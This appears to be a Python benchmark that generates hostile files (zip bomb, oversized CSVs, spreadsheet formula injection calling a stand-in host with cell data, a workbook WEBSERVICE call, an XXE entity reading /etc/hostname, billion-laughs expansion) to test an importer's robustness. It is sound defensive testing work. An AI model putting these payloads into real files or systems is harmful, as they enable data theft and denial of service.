"""Files made to hurt, each through the importer: one clear error, and what it costs in time and memory."""

from __future__ import annotations

import json
import subprocess
import sys
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

from benchmarks.figures import Figure, at_most, folder

SECONDS = 10.0
MEMORY_MB = 200.0
_LINE, _QUICK_LINE = 1 << 30, 1 << 24
_BOMB_MB, _QUICK_BOMB_MB = 1_000, 20
_LOOK = """
import json, resource, sys, time
from datetime import UTC, datetime
from pathlib import Path
from eirene.errors import EireneError
from eirene.imports.run import plan
began = time.perf_counter()
try:
    made = plan(Path(sys.argv[1]), kind="site", mapping=None, compartment="mission", zone="UTC",
                now=datetime.now(UTC), find=None)
    told = f"{made.rows} rows, {made.reports} reports, {made.rejected} rejects"
except EireneError as error:
    told = error.message
took = time.perf_counter() - began
own = int(Path("/proc/self/status").read_text().split("VmHWM:")[1].split()[0])
peak = max(own, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)
print(json.dumps([told, took, peak / 1024]))
"""
_MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"


def run(*, quick: bool) -> Iterator[Figure]:
    """Each file in a process of its own, time and memory as two figures."""
    with folder() as where:
        for title, name, make in _files(quick=quick):
            path = where / name
            make(path)
            yield from _looked(title, path)
            path.unlink()


def _looked(title: str, path: Path) -> Iterator[Figure]:
    done = subprocess.run(
        [sys.executable, "-c", _LOOK, str(path)], check=True, capture_output=True, text=True
    )
    told, took, peak = json.loads(done.stdout)
    yield at_most(f"hostile file: {title}, time", SECONDS, took, "s", 1, told[:160])
    yield at_most(f"hostile file: {title}, memory", MEMORY_MB, peak, "MB", 1)


def _files(*, quick: bool) -> list[tuple[str, str, Callable[[Path], None]]]:
    line = _QUICK_LINE if quick else _LINE
    bomb = _QUICK_BOMB_MB if quick else _BOMB_MB
    return [
        ("zip bomb as workbook", "bomb.xlsx", lambda path: _book(path, [" " * (1 << 20)] * bomb)),
        ("100,000 columns", "wide.csv", lambda path: _text(path, ",".join("c" * 100_000) + "\n")),
        ("one line of 1 GB", "line.csv", lambda path: _one_line(path, line)),
        ("formulas", "formulas.csv", _formulas),
        ("formulas in a workbook", "formulas.xlsx", _formula_book),
        ("XML entities", "laughs.kml", _laughs),
        ("XML entities in a workbook", "entity.xlsx", _entity_book),
    ]


def _text(path: Path, text: str) -> None:
    path.write_text(text, encoding="utf-8")


def _one_line(path: Path, size: int) -> None:
    with path.open("wb") as stream:
        stream.write(b"name,type\n")
        piece = b"x" * (1 << 20)
        for _ in range(size >> 20):
            stream.write(piece)


def _formulas(path: Path) -> None:
    cell = '"=HYPERLINK(""http://a.example/?""&A1,""x"")"'
    _text(path, "name,type\n" + f"{cell},market\n" * 1_000)


def _formula_book(path: Path) -> None:
    head = "".join(f'<c t="inlineStr"><is><t>{one}</t></is></c>' for one in ("name", "people"))
    row = '<row><c t="inlineStr"><is><t>A</t></is></c><c><f>WEBSERVICE("http://a.example")</f></c></row>'
    _book(path, [_sheet(f"<row>{head}</row>" + row * 1_000)])


def _entity_book(path: Path) -> None:
    entity = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
    _book(path, [entity + _sheet('<row><c t="inlineStr"><is><t>&x;</t></is></c></row>')])


def _laughs(path: Path) -> None:
    pairs = zip("abcdefgh", "bcdefghi", strict=True)
    nested = "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in pairs)
    _text(path, f'<!DOCTYPE kml [<!ENTITY a "ha">{nested}]><kml>&i;</kml>')


def _sheet(rows: str) -> str:
    return f"<worksheet {_MAIN}><sheetData>{rows}</sheetData></worksheet>"


def _book(path: Path, parts: list[str]) -> None:
    """A workbook of one sheet from its raw XML."""
    relation = '<Relationship Id="r1" Type="{0}/{1}" Target="{2}"/>'
    relations = f'<Relationships xmlns="{_PACKAGE}">{{0}}</Relationships>'
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        main = relation.format(_OFFICE, "officeDocument", "xl/workbook.xml")
        archive.writestr("_rels/.rels", relations.format(main))
        sheet = '<sheets><sheet name="S" sheetId="1" r:id="r1"/></sheets>'
        book = f'<workbook {_MAIN} xmlns:r="{_OFFICE}">{sheet}</workbook>'
        archive.writestr("xl/workbook.xml", book)
        one = relation.format(_OFFICE, "worksheet", "worksheets/sheet1.xml")
        archive.writestr("xl/_rels/workbook.xml.rels", relations.format(one))
        with archive.open("xl/worksheets/sheet1.xml", "w") as stream:
            for part in parts:
                stream.write(part.encode())
